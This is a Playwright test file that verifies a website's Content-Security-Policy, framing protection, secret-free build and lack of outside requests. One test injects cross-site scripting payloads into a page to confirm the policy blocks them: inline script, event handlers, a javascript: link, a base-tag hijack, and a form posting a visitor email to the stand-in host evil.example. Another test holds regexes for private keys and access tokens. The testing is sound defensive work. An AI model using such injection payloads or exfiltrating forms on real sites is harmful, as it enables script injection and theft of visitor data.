// The promises of the policy: the site runs its own files only, and speaks to nobody.
import { readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";

import { expect, listenOnLoopback, openPageAndSettle, ROUTES, test } from "./site";

const FILES = readdirSync("build/client", { recursive: true, encoding: "utf8" });
const PAGES = FILES.filter((file) => file.endsWith(".html")).map((file) => ({ file, html: readFileSync(`build/client/${file}`, "utf8") }));

test("every page carries the policy before anything that it judges, and the headers carry the same", () => {
  const headers = readFileSync("build/client/_headers", "utf8");
  expect(PAGES.length).toBeGreaterThanOrEqual(7);
  for (const { file, html } of PAGES) {
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1]?.replaceAll("&#x27;", "'") ?? "";
    expect(policy, file).toContain("default-src 'none'; script-src 'self'");
    for (const part of ["style-src 'self'", "connect-src 'none'", "form-action 'none'", "base-uri 'none'"]) expect(policy, file).toContain(part);
    expect(policy, file).not.toMatch(/unsafe|sha256|\*|https?:|data:|frame-ancestors/);
    expect(headers).toContain(`Content-Security-Policy: ${policy}; frame-ancestors 'none'`);
    expect(html.indexOf("Content-Security-Policy"), file).toBeLessThan(html.search(/<(script|link|style)/));
  }
});

test("no page holds inline style, handlers or scripts, or an address of a third party", () => {
  for (const { file, html } of PAGES) {
    const running = html.replace(/<script type="application\/ld\+json">[\s\S]*?<\/script>/g, "");
    expect(running, file).not.toMatch(/\sstyle=|\son\w+=|javascript:|<style/);
    expect(running.match(/<script(?![^>]*\ssrc=)[^>]*>/g), file).toBeNull();
    const addresses = [...running.matchAll(/(?:src|srcset|href)="(https?:)?\/\/([^/"]+)/gi)].map(([, , host]) => host);
    expect(new Set(addresses.filter((host) => host !== "www.example.com")), file).toEqual(new Set());
  }
});

test("the build holds no source map and no secret", () => {
  expect(FILES.filter((file) => file.endsWith(".map"))).toEqual([]);
  for (const file of FILES.filter((name) => /\.(js|css|html|json|webmanifest)$/.test(name))) {
    expect(readFileSync(`build/client/${file}`, "utf8"), file).not.toMatch(/sourceMappingURL|BEGIN [A-Z ]*PRIVATE KEY|AKIA[0-9A-Z]{16}|gh[pousr]_\w{36}/);
  }
});

test("over a whole crawl nothing is fetched, sent or stored but the router's scroll positions", async ({ page, context }) => {
  await page.addInitScript(() => {
    const calls: string[] = [];
    Reflect.set(globalThis, "calls", calls);
    for (const name of ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "RTCPeerConnection"]) {
      Reflect.set(globalThis, name, function spy() {
        calls.push(name);
      });
    }
    navigator.sendBeacon = () => Boolean(calls.push("sendBeacon"));
  });
  await openPageAndSettle(page, "/");
  for (const name of ["Drug Pipeline", "For Investors", "About Us", "Contact Us"]) {
    await page.getByRole("link", { name }).first().click();
    await expect(page.getByRole("link", { name }).first()).toHaveAttribute("aria-current", "page");
  }
  expect(await page.evaluate<string[]>("calls")).toEqual([]);
  await page.reload();
  expect(await page.evaluate<string[]>("calls")).toEqual([]);
  expect(await context.cookies()).toEqual([]);
  expect(await page.evaluate(async () => [Object.keys(localStorage), Object.keys(sessionStorage), await indexedDB.databases(), await caches.keys()])).toEqual([[], ["react-router-scroll-positions"], [], []]);
});

test("what is put into a page from outside neither runs nor loads nor sends", async ({ page, noise }) => {
  await openPageAndSettle(page, "/");
  const reached: string[] = [];
  await page.route("https://evil.example/**", (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  const after = await page.evaluate(async () => {
    const run = "document.documentElement.dataset.ran = 'ran'";
    const script = document.createElement("script");
    script.textContent = run;
    document.body.append(script);
    document.body.insertAdjacentHTML("beforeend", `
      <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run}" onerror="${run}">
      <img src="https://evil.example/pixel.png">
      <iframe src="https://evil.example/"></iframe>
      <p id="styled" style="color: red">styled</p>
      <a id="code" href="javascript:${run}">code</a>
      <form id="form" method="post" action="https://evil.example/"><input name="email" value="a@visitor.example"></form>`);
    document.head.insertAdjacentHTML("afterbegin", '<base href="https://evil.example/">');
    document.querySelector<HTMLAnchorElement>("#code")?.click();
    await fetch("/").catch(() => undefined);
    // Text as code: only a timer's is not the debugger's own.
    await new Promise<void>((done) => {
      // eslint-disable-next-line @typescript-eslint/no-implied-eval -- what the policy has to refuse
      setTimeout(run);
      setTimeout(done, 1);
    });
    const styled = document.querySelector("#styled") ?? document.body;
    return { ran: document.documentElement.dataset["ran"], base: document.baseURI, color: getComputedStyle(styled).color, ink: getComputedStyle(document.body).color };
  });
  expect(after).toEqual({ base: page.url(), color: after.ink, ink: after.ink });
  await page.evaluate(() => document.querySelector<HTMLFormElement>("#form")?.submit());
  for (const part of ["script-src-elem inline", "script-src-attr inline", "script-src eval", "style-src-attr inline", "img-src data", "img-src https://evil.example", "frame-src https://evil.example", "base-uri https://evil.example", "form-action https://evil.example", "connect-src http://127.0.0.1"]) {
    await expect.poll(() => noise.messages.join("\n")).toContain(`policy: ${part}`);
  }
  expect(reached).toEqual([]);
  noise.messages.length = 0;
});

test("no other site can show a page in a frame", async ({ page, noise, site }) => {
  const other = await listenOnLoopback(createServer((_, response) => response.setHeader("Content-Type", "text/html").end(`<iframe src="${site}/"></iframe>`)));
  await page.goto(other.address);
  await expect.poll(() => noise.messages.splice(0).join("\n")).toMatch(/frame/i);
  expect(page.frames().map((frame) => frame.url())).toEqual([`${other.address}/`, "chrome-error://chromewebdata/"]);
  await other.close();
});

test("search engines are told of every page, with one address each", async ({ page }) => {
  const sitemap = readFileSync("build/client/sitemap.xml", "utf8");
  for (const path of ROUTES) {
    await page.goto(path);
    const address = await page.locator("link[rel='canonical']").getAttribute("href");
    expect(address).toBe(`https://www.example.com${path}`);
    expect(sitemap).toContain(`<loc>${address}</loc>`);
    const data = await page.locator("script[type='application/ld+json']").textContent();
    expect(data).toContain('"@type":"Organization"');
  }
  expect(readFileSync("build/client/robots.txt", "utf8")).toContain("Sitemap: https://www.example.com/sitemap.xml");
});
